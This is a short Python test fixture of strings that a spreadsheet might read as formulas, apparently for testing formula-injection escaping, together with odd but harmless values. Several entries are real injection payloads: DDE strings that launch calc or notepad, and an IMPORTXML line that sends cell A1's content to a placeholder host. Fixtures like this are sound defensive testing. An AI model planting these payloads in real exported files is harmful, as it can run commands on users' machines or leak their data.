"""Sixty texts that a spreadsheet could take for a formula, and some that only look odd."""

_BODIES = ["1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'HYPERLINK("http://x.example","vai")']
_STARTERS = ["=", "+", "-", "@", "\t=", "\n=", "＝", "＋", "－", "＠"]

FORMULAS = [
    *(starter + body for starter in _STARTERS for body in _BODIES),
    "==1+1",
    "=-1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u2060+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    "-",
    "+39 06 1234567",
    "-2",
    "@sindaco",
    "=",
    "\u202e=1+1",
    "=cmd|' /C notepad'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '+IMPORTXML(CONCAT("http://x.example?v=",A1),"//a")',
    "= 1",
]
HARMLESS = [
    "L'Aquila",
    "'Ndrangheta",
    'Forlì € “virgolette” ; , " \t fine',
    "00123",
    "012345678901234567890",
    "_x0041_",
    "riga\nriga",
    "https://x.example",
    "mailto:a@x.example",
    "TRUE",
    "1e5",
    "31/12/2026",
    "🏛️ ‏עיר",
]
